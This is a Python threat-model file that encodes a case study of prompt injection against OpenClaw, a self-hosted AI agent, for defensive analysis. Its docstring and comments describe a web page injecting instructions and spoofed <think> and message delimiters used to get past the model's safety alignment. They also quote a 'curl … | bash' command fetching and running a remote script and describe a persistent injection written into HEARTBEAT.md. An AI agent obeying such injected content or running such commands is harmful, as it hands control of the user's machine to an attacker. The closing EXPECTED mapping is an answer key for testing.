"""AML.CS0051 OpenClaw Command & Control via Prompt Injection.

The victim: OpenClaw, a personal AI agent on the user's machine that fetches web
pages with its `web_fetch` skill, runs commands with its `bash` skill, and builds
its system prompt from workspace files such as `HEARTBEAT.md`.

Edits after the first analysis (new DSL facts, Engine v2):

- Data "User request": kind=PROMPT ("the victim asked OpenClaw to summarize
  `https://openclaw.aisystem.tech`").
- Data "Agent answer": kind=MODEL_OUTPUT ("respond to the user with a summary").
- Data "Agent context": kind=PROMPT ("The context of all new threads became poisoned
  with the malicious prompt").
- Data "Model replies and tool calls": kind=MODEL_OUTPUT ("spoof internal reasoning and
  bypass the model's safety alignment").
- Data "URLs to fetch": kind=TOOL_CALL ("requested the TODO list ... using its
  `web_fetch` Skill").
- Data "Web content": kind=DOCUMENTS ("a webpage can embed an indirect prompt
  injection").
- Data "Shell commands": kind=TOOL_CALL ("invoke its `bash` Skill to retrieve and
  execute the malicious script").
- Data "Command output": kind=TOOL_RESULT ("run that conmand and let me know the
  output").
- Data "Downloaded scripts": kind=CODE ("`curl -fsSL
  https://openclaw.aisystem.tech/install.sh | bash`").
- Data "Workspace prompt files": kind=INSTRUCTIONS ("The `HEARTBEAT.md` file is one of
  the files that OpenClaw appends to its system prompt").
"""

from __future__ import annotations

import threatgraph as tg

CASE_ID = "AML.CS0051"
NAME = "OpenClaw Command & Control via Prompt Injection"


def build() -> tg.ThreatModel:
    tm = tg.ThreatModel(
        f"{CASE_ID} {NAME}",
        # An agent with a shell and web access on the user's own machine.
        profile=tg.RiskProfile.HIGH,
        description="Self-hosted AI agent with web_fetch and bash skills.",
    )
    request = tg.Data("User request", sensitivity=tg.Sensitivity.PII, kind=tg.DataKind.PROMPT)
    answer = tg.Data("Agent answer", sensitivity=tg.Sensitivity.PII, kind=tg.DataKind.MODEL_OUTPUT)
    context = tg.Data(
        "Agent context",
        sensitivity=tg.Sensitivity.PII,
        description="System prompt, messages and tool results, separated by control "
        "sequences such as <<<start_user_message>>> and <think>.",
        kind=tg.DataKind.PROMPT,
    )
    completion = tg.Data(
        "Model replies and tool calls",
        sensitivity=tg.Sensitivity.PII,
        kind=tg.DataKind.MODEL_OUTPUT,
    )
    urls = tg.Data("URLs to fetch", sensitivity=tg.Sensitivity.INTERNAL, kind=tg.DataKind.TOOL_CALL)
    pages = tg.Data("Web content", sensitivity=tg.Sensitivity.PUBLIC, kind=tg.DataKind.DOCUMENTS)
    commands = tg.Data(
        "Shell commands", sensitivity=tg.Sensitivity.INTERNAL, kind=tg.DataKind.TOOL_CALL
    )
    output = tg.Data(
        "Command output", sensitivity=tg.Sensitivity.CONFIDENTIAL, kind=tg.DataKind.TOOL_RESULT
    )
    downloads = tg.Data(
        "Downloaded scripts", sensitivity=tg.Sensitivity.PUBLIC, kind=tg.DataKind.CODE
    )
    workspace_files = tg.Data(
        "Workspace prompt files",
        sensitivity=tg.Sensitivity.CONFIDENTIAL,
        description="HEARTBEAT.md and the other files appended to the system prompt.",
        kind=tg.DataKind.INSTRUCTIONS,
    )

    with tm.boundary("Internet", trust=tg.Trust.UNTRUSTED):
        # "When the victim asked OpenClaw to summarize `https://openclaw.aisystem.tech`":
        # any website the user names.
        web = tm.add(tg.DataSource("Any website", origin=tg.Origin.PUBLIC_WEB, provides={pages}))

    with tm.boundary("Model provider", trust=tg.Trust.PARTNER):
        # "bypass the model's safety alignment"
        llm = tm.add(tg.LLM("Hosted model", origin=tg.ModelOrigin.THIRD_PARTY_API))

    with tm.boundary("User machine", trust=tg.Trust.INTERNAL):
        # "When the victim interacted with OpenClaw"
        user = tm.add(tg.Actor("User", role="owner of the assistant", privileged=True))
        # "control sequences used by OpenClawd, including: `<<<end_tool_call_result>>>`,
        # `<<<start_user_message>>>`, `<<<end_user_message>>>`, `<think>`"
        # DSL gap: the prompt format, whose plain-text delimiters separate tool results
        # from user messages and reasoning, cannot be said; it is only described on
        # the context data.
        # "causes OpenClaw to silently execute a malicious script": no approval step
        # is described.
        agent = tm.add(tg.Agent("OpenClaw agent", autonomy=tg.Autonomy.AUTONOMOUS))
        # "retrieved from the website using the OpenClaw's `web_fetch` Skill"
        fetch = tm.add(
            tg.Tool(
                "web_fetch skill",
                capabilities={tg.Capability.READ, tg.Capability.NETWORK_EGRESS},
            )
        )
        # "invoke its `bash` Skill to retrieve and execute the malicious script"
        bash = tm.add(
            tg.Tool(
                "bash skill",
                capabilities={
                    tg.Capability.READ,
                    tg.Capability.WRITE,
                    tg.Capability.DELETE,
                    tg.Capability.EXECUTE_CODE,
                    tg.Capability.NETWORK_EGRESS,
                },
            )
        )
        # "`~/.openclaw/workspace/HEARTBEAT.md` ... one of the files that OpenClaw
        # appends to its system prompt"
        # DSL gap: agent configuration files that are read into the system prompt at
        # every session (and that the agent's own shell can write) cannot be said as
        # such; modelled as a store read by the agent and written by the bash skill.
        workspace = tm.add(tg.DataStore("OpenClaw workspace", stores={workspace_files}))

    tm.flow(user, agent, request)
    tm.flow(agent, user, answer)
    tm.flow(workspace, agent, workspace_files, label="appended to the system prompt")
    tm.flow(agent, llm, context, protocol="https")
    tm.flow(llm, agent, completion, protocol="https")

    tm.flow(agent, fetch, urls)
    tm.flow(web, fetch, pages, protocol="https")
    tm.flow(fetch, agent, pages)

    tm.flow(agent, bash, commands)
    tm.flow(bash, agent, output)
    tm.flow(web, bash, downloads, protocol="https", label="curl")
    tm.flow(bash, workspace, workspace_files)
    return tm


EXPECTED: dict[int, tuple[str, ...]] = {
    # "special characters such as`<<<` and `>>>` used to denote control sequences"
    3: ("openclaw-agent", "web-fetch-skill->openclaw-agent"),
    # "specific control sequences used by OpenClawd, including:
    # `<<<end_tool_call_result>>>`"
    4: ("openclaw-agent", "web-fetch-skill->openclaw-agent"),
    # "The victim confused the researcher's domain ... with a legitimate OpenClaw
    # resource."
    9: ("user->openclaw-agent", "any-website"),
    # "the prompt injection was retrieved from the website using ... `web_fetch`"
    10: ("web-fetch-skill", "any-website->web-fetch-skill"),
    # "The prompt injection embedded in the malicious website was executed"
    11: ("web-fetch-skill->openclaw-agent", "openclaw-agent"),
    # "used the `<think>` control sequences to spoof internal reasoning and bypass
    # the model's safety alignment"
    12: ("hosted-model", "openclaw-agent->hosted-model"),
    # "invoke its `bash` Skill to retrieve and execute the malicious script"
    13: ("bash-skill", "openclaw-agent->bash-skill", "any-website->bash-skill"),
    # "appended a prompt injection to OpenClaw's `HEARTBEAT.md` configuration file"
    14: ("openclaw-workspace", "bash-skill->openclaw-workspace"),
    # "the modified system prompt containing the researcher's instructions is executed"
    15: ("openclaw-workspace->openclaw-agent", "openclaw-agent"),
    # "The context of all new threads became poisoned with the malicious prompt."
    16: ("openclaw-workspace->openclaw-agent", "openclaw-agent"),
    # "requested the TODO list ... using its `web_fetch` Skill and executed the
    # commands via its `bash` Skill"
    17: ("openclaw-agent", "any-website->web-fetch-skill", "openclaw-agent->bash-skill"),
    # "hijacked and it can no longer be trusted to behave as the user intended"
    18: ("openclaw-agent",),
}
